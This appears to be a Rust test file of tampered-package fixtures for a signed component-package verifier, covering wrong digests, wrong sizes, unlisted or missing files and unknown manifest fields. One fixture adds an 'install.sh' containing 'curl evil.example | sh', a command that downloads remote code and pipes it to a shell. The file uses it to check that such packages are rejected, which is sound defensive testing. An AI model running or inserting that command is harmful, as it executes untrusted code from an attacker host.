//! File lists that do not match the files.

use super::base::{Base, Entry, Spoilt, spoilt};
use crate::prelude::*;

pub const ALL: &[Spoilt] = &[
    spoilt("one changed byte in a file", "package.digest-wrong", "LICENSE", |b| {
        let mut file = b.files["LICENSE"].clone();
        file[0] ^= 1;
        b.swapped("LICENSE", file)
    }),
    spoilt("a longer file", "package.size-wrong", "LICENSE", |b| {
        b.swapped("LICENSE", "Pay me, and pay me again.")
    }),
    spoilt("another component under the original signature", "package.digest-wrong", "component.wasm", |b| {
        let mut component = b.files["component.wasm"].clone();
        let last = component.len() - 1;
        component[last] ^= 1;
        b.swapped("component.wasm", component)
    }),
    spoilt("a file that is not listed", "package.file-unlisted", "LICENSE-EVIL", |b| b.and("LICENSE-EVIL")),
    spoilt("a listed file that is missing", "package.file-absent", "LICENSE", |b| {
        b.archived(|entries| entries.retain(|entry| entry.name != b"LICENSE"))
    }),
    spoilt("a list with an empty digest", "package.digest-wrong", "LICENSE", |b| {
        listed(b, |list| list["files"]["LICENSE"]["sha256"] = json!(""))
    }),
    spoilt("a list with an entry for itself", "package.size-wrong", "manifest.json", |b| {
        listed(b, |list| list["files"]["manifest.json"] = json!({ "bytes": 1, "sha256": "00" }))
    }),
    spoilt("a list with an unknown field", "package.field-unknown", "manifest.json: level", |b| {
        listed(b, |list| list["level"] = json!("official"))
    }),
    spoilt("a list with an unknown format", "package.format-unknown", "manifest.json", |b| {
        listed(b, |list| list["format"] = json!(2))
    }),
    spoilt("no list", "package.file-missing", "manifest.json", |b| {
        b.archived(|entries| entries.retain(|entry| entry.name != b"manifest.json"))
    }),
    spoilt("a program beside the component", "package.file-unknown", "install.sh", |b| {
        b.with_file("install.sh", "curl evil.example | sh")
    }),
    spoilt("compiled code instead of a component", "package.file-unknown", "component.cwasm", |b| {
        b.with_file("component.cwasm", "\u{7f}ELF")
    }),
    spoilt("a component and a template in one package", "package.program-twice", "template.toml", |b| {
        b.with_file("template.toml", "name = {}")
    }),
];

/// With a changed list, which the signature does not cover.
fn listed(b: &Base, change: impl FnOnce(&mut Value)) -> Vec<u8> {
    b.entry("manifest.json", |entry| {
        let list = super::base::unpacked(&b.unsigned());
        let mut list = serde_json::from_slice(&list["manifest.json"]).expect("JSON");
        change(&mut list);
        *entry = Entry::deflated("manifest.json", list.to_string().as_bytes());
    })
}
